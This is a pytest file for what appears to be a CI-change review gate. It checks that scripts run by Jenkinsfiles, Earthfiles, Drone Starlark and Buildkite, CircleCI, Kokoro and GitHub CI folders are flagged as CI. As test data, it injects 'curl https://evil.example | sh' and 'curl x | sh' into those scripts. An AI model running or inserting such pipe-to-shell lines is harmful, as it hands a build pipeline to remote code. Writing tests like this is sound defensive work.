"""Red team 12 (second round), `--tree`: what a CI file that is not a YAML pipeline runs by path.

The files-CI-runs reader (ciwalk.py) started from the CI systems' YAML definitions and a plain `Jenkinsfile`; a file
the path rules call `ci` that runs commands in another form was not read, so the script it runs stayed `src` and
`gate --tree` exit 0 while the edit changed what the pipeline runs. Now each such file is read as a definition and
what it runs is `ci` (`ci.context.ci-run`):

- a Jenkinsfile under any spelling (`Jenkinsfile.release`, `Jenkinsfile-deploy`, `jenkins/Jenkinsfile.nightly`,
  `release.jenkinsfile`), a pipeline script in a Jenkins folder (`jenkins/release.groovy`, `jenkins/pipelines/deploy`);
- an Earthfile's `RUN`, Drone's Starlark (`.drone.star`);
- a script in a CI system's folder (`.buildkite/hooks/pre-command`, which the agent runs by itself; `.circleci/`,
  `.kokoro/`, `ci/` scripts, `.github/scripts/`) that runs another (buildkite/agent's `.buildkite/steps/*.sh` run the
  release's `scripts/build-*.sh`).

Not raised: a script no CI file names; a script named only by a file outside the CI folders that nothing runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

JF = "pipeline {{\n  agent any\n  stages {{ stage('r') {{ steps {{ sh '{script}' }} }} }}\n}}\n"
SCRIPT = "#!/bin/sh\necho ok\n"

# the CI file: (its text naming the script, the script)
ATTACKS: dict[str, tuple[str, str]] = {
    "Jenkinsfile.release": (JF.format(script="./tools/jf1.sh"), "tools/jf1.sh"),
    "Jenkinsfile-deploy": (JF.format(script="tools/jf2.sh"), "tools/jf2.sh"),
    "jenkins/Jenkinsfile.nightly": (JF.format(script="./tools/jf3.sh"), "tools/jf3.sh"),
    "release.jenkinsfile": (JF.format(script="bash tools/jf4.sh"), "tools/jf4.sh"),
    "jenkins/release.groovy": (JF.format(script="./tools/jf5.sh"), "tools/jf5.sh"),
    "jenkins/pipelines/deploy": (JF.format(script="./tools/jf6.sh"), "tools/jf6.sh"),
    "Earthfile": ("VERSION 0.8\nbuild:\n  FROM alpine\n  COPY tools/earth.sh .\n  RUN ./tools/earth.sh\n",
                  "tools/earth.sh"),
    ".drone.star": ("def main(ctx):\n  return {'kind': 'pipeline', 'steps': [{'name': 'r', 'image': 'alpine',"
                    " 'commands': ['./tools/drone.sh']}]}\n", "tools/drone.sh"),
    ".buildkite/hooks/pre-command": ("#!/bin/bash\nsource scripts/bk-env.sh\n", "scripts/bk-env.sh"),
    ".buildkite/steps/release.sh": ("#!/bin/bash\n./scripts/build-binary.sh \"$1\"\n", "scripts/build-binary.sh"),
    ".circleci/deploy.sh": ("#!/bin/sh\npython3 tools/cci_deploy.py\n", "tools/cci_deploy.py"),
    ".kokoro/build.sh": ("#!/bin/bash\nbash tools/kokoro-inner.sh\n", "tools/kokoro-inner.sh"),
    "ci/build.sh": ("#!/bin/sh\n. scripts/ci-common.sh\n", "scripts/ci-common.sh"),
    ".github/scripts/release.sh": ("#!/bin/sh\nnode tools/gh-publish.js\n", "tools/gh-publish.js"),
}
LEFT = {"tools/free.sh": "src", "docs/steps.sh": "src"}  # named only by docs/README.txt below


def _files() -> dict[str, str]:
    files = {"README.md": "x\n", "docs/README.txt": "run tools/free.sh then docs/steps.sh\n"}
    for ci_file, (text, script) in ATTACKS.items():
        files[ci_file] = text
        files[script] = SCRIPT
    files.update((path, SCRIPT) for path in LEFT)
    return files


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    files = _files()
    edits = {script: SCRIPT + "curl https://evil.example | sh\n" for _, script in ATTACKS.values()}
    edits.update((path, SCRIPT + "# edited\n") for path in LEFT)
    repo, old, new = two_commits(tmp_path_factory.mktemp("cifiles") / "repo", files, edits)
    return tree_classify(repo.root, old, new)


@each_case("ci_file", sorted(ATTACKS))
def test_what_a_ci_file_runs_is_ci(classified: dict[str, dict[str, str]], ci_file: str) -> None:
    got = classified[ATTACKS[ci_file][1]]
    assert got["bucket"] == "ci", got


@pytest.mark.parametrize("path", sorted(LEFT))
def test_what_no_ci_file_runs_keeps_its_class(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == LEFT[path], classified[path]


def test_the_gate_reviews_what_a_buildkite_hook_runs(tmp_path: Path) -> None:
    base = {".buildkite/hooks/pre-command": "#!/bin/bash\nsource scripts/bk-env.sh\n", "scripts/bk-env.sh": SCRIPT}
    repo, old, new = two_commits(tmp_path / "repo", base, {"scripts/bk-env.sh": SCRIPT + "curl x | sh\n"})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]
    assert [(r["rule"], r["paths"]) for r in decision["reasons"]] == [("core.ci", ["scripts/bk-env.sh"])]
